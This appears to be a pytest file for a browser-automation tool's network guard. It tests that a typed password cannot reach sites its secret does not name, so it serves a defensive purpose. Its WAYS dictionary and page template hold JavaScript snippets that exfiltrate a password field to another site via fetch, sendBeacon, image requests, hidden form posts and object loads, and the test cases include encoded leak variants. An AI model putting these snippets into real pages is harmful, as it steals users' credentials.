"""What was typed of a secret stays on the sites that it is for, whatever the scripts of a page send."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser

from handrail import Session
from handrail.browser.types.acts import HeldRequest
from handrail.calls.network_guard import TypedSecrets
from handrail.events.kinds import NoticeEvent
from handrail.events.stream import Events
from handrail.policy import Permissions
from handrail.policy.facts import Caller
from handrail.vault import Vault, parse_secret
from tests.conftest import OpenSession
from tests.pages import PageServer
from tests.tools.acting import js, ref, shown

VALUE = "cor2rect-Horse!"
WAYS = {
    "fetch": "fetch(to, {method: 'POST', mode: 'no-cors', body: pw.value}).catch(() => 0).then(end)",
    "base64 in a beacon": "navigator.sendBeacon(to, btoa(pw.value)); end()",
    "picture": "Object.assign(new Image(), {onload: end, onerror: end, src: to + '?' + escape(pw.value)})",
    "request that reads": "fetch(to + '?' + btoa('a' + pw.value), {mode: 'no-cors'}).catch(() => 0).then(end)",
    "form in a frame": "frames[0].name = 'f'; hidden.elements[0].value = pw.value; hidden.submit(); end()",
}
PAGE = """<form method=post action=/in><label>Password <input id=pw type=password></label><button>Go</button></form>
<form id=hidden method=post target=f action="AWAY/take"><input type=hidden name=p></form><iframe name=f></iframe>
<script>const to = 'AWAY/take'; let left = COUNT, ended = 0; const end = () => { ended = --left <= 0 };
pw.onchange = pw.oninput = () => { if (pw.value.length > 14) { pw.oninput = pw.onchange = null; SEND } }</script>"""


@pytest.fixture(autouse=True)
def value(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PW", VALUE)


async def login(
    browser: Browser, open_session: OpenSession, run_dir: Path, serve: PageServer, sends: list[str], *homes: str
) -> Session:
    """Open a page that sends what is typed by these scripts to another site."""
    serve("taken", "/take")
    secret = f"login=env:PW@{','.join((serve.origin, *homes))}"
    session = await open_session(browser, run_dir, secrets=[secret])
    page = PAGE.replace("SEND", "; ".join(sends)).replace("COUNT", str(len(sends)))
    return await shown(session, serve, page.replace("AWAY", serve.other_site))


async def fill(session: Session, caller: Caller = "model") -> Any:
    field = await ref(session, "#pw")
    result = await session.call_as(caller, "fill_secret", ref=field, name="login")
    assert result.ok, result
    await session.tab.page.wait_for_function("ended")
    return result


@pytest.mark.parametrize("caller", ["model", "user"])
async def test_a_script_sends_what_was_typed_to_no_other_site(
    any_browser: Browser, open_session: OpenSession, tmp_path: Path, serve: PageServer, caller: Caller
) -> None:
    session = await login(any_browser, open_session, tmp_path / "run", serve, list(WAYS.values()))
    notices: list[NoticeEvent] = []
    session.events.subscribe(lambda event: notices.append(event) if isinstance(event, NoticeEvent) else None)
    result = await fill(session, caller)
    stopped = [*result.followed.get("stopped_requests", ()), *session.tabs.stopped()]
    assert [one for one in serve.requests if one.path.startswith("/take")] == []
    assert any(serve.other_site in one for one in stopped)
    assert any(serve.other_site in one.text for one in notices)
    assert VALUE not in str([one.to_dict() for one in notices])


async def test_it_reaches_each_site_that_the_secret_names_by_each_way(
    any_browser: Browser, open_session: OpenSession, tmp_path: Path, serve: PageServer
) -> None:
    ways = list(WAYS.values())
    session = await login(any_browser, open_session, tmp_path / "run", serve, ways, serve.other_site)
    await fill(session, "user")
    async with session.tab.page.expect_response("**/end"):
        await js(session, "fetch('/end')")
    assert len({(one.path, one.body) for one in serve.requests if one.path.startswith("/take")}) == len(WAYS)


async def test_a_form_brings_it_home(
    any_browser: Browser, open_session: OpenSession, tmp_path: Path, serve: PageServer
) -> None:
    serve("in", "/in")
    session = await open_session(any_browser, tmp_path / "run", secrets=[f"login=env:PW@{serve.origin}"])
    await shown(session, serve, "<form method=post action=/in><input id=pw type=password name=p><button>Go</button>")
    assert (await session.call_as("model", "fill_secret", ref=await ref(session, "#pw"), name="login")).ok
    assert (await session.call("click", ref=await ref(session, "button"))).ok
    assert [one.body for one in serve.requests if one.path == "/in"] == [b"p=cor2rect-Horse%21"]


HOME, OPENED, AWAY = "https://shop.example", "https://opened.example", "https://away.example"


def guard() -> tuple[TypedSecrets, Vault]:
    vault = Vault([parse_secret(f"login=env:PW@{HOME}")])
    return TypedSecrets(vault, Permissions(origins={HOME, OPENED}), Events(vault.mask)), vault


@pytest.mark.parametrize(
    "request_",
    [
        HeldRequest("GET", f"{AWAY}/?p=cor2rect%2DHorse!"),
        HeldRequest("GET", f"{AWAY}/", headers=("https://shop.example/#cor2rect-Horse!",)),
        HeldRequest("GET", f"{AWAY}/", headers=("Y29yMnJlY3QtSG9yc2Uh",)),
        HeldRequest("GET", f"{AWAY}/", fragment="#cor2rect-Horse!"),
        HeldRequest("POST", f"{AWAY}/", body=b'{"p": "cor2rect\\u002dHorse!"}'),
        HeldRequest("POST", f"{AWAY}/", body="cor2rect-Horse!".encode("utf-16")),
        HeldRequest("POST", f"{AWAY}/", body=VALUE.encode().hex().encode()),
        HeldRequest("POST", f"{AWAY}/", body=None, origin=HOME),
        HeldRequest("POST", f"{AWAY}/", body=None, origin="null"),
        HeldRequest("POST", f"{AWAY}/", body=b"0" * 1_000_001, origin=HOME),
        # What is opened is not what the secret names.
        HeldRequest("POST", f"{OPENED}/", body=b"p=cor2rect-Horse!"),
        HeldRequest("POST", "https://user@shop.example/", body=b"p=cor2rect-Horse!"),
    ],
)
def test_a_request_tells_a_secret_in_any_part_that_is_sent(request_: HeldRequest) -> None:
    secrets, vault = guard()
    assert not secrets.tells(request_) or request_.body is None, "nothing was typed"
    vault.value("login")
    assert secrets.tells(request_)


@pytest.mark.parametrize(
    "request_",
    [
        HeldRequest("POST", f"{HOME}/in", body=b"p=cor2rect-Horse!", origin=HOME),
        HeldRequest("POST", f"{HOME}/in", body=None, origin=HOME),
        # A sign-in that another site answers: its form goes to a site that the user opened.
        HeldRequest("POST", f"{OPENED}/saml", body=None, origin=HOME),
        HeldRequest("POST", f"{AWAY}/count", body=b"visit=1", origin=HOME),
        HeldRequest("POST", f"{AWAY}/count", body=None, origin=OPENED),
        HeldRequest("GET", f"{AWAY}/horse.png"),
        HeldRequest("GET", "data:text/plain,cor2rect-Horse!"),
    ],
)
def test_other_requests_tell_none(request_: HeldRequest) -> None:
    secrets, vault = guard()
    vault.value("login")
    assert not secrets.tells(request_)


@pytest.mark.parametrize(("has_left", "said"), [(False, "was stopped"), (True, "left before it could be stopped")])
def test_the_user_is_told_whether_a_request_that_told_a_secret_could_be_stopped(has_left: bool, said: str) -> None:
    secrets, vault = guard()
    vault.value("login")
    told: list[str] = []
    secrets.events.subscribe(lambda event: told.append(event.text) if isinstance(event, NoticeEvent) else None)
    secrets.tells(HeldRequest("GET", f"{AWAY}/?p=cor2rect%2DHorse!", has_left=has_left))
    assert said in told[0]


async def test_what_an_object_loads_in_firefox_is_said_to_have_left(
    firefox: Browser, open_session: OpenSession, tmp_path: Path, serve: PageServer
) -> None:
    load = "document.body.append(Object.assign(document.createElement('object'), {data: to + '?' + pw.value})); end()"
    session = await login(firefox, open_session, tmp_path / "run", serve, [load])
    notice: asyncio.Future[str] = asyncio.get_running_loop().create_future()
    session.events.subscribe(lambda event: notice.set_result(event.text) if isinstance(event, NoticeEvent) else None)
    await fill(session)
    async with asyncio.timeout(10):
        assert "left before it could be stopped" in await notice
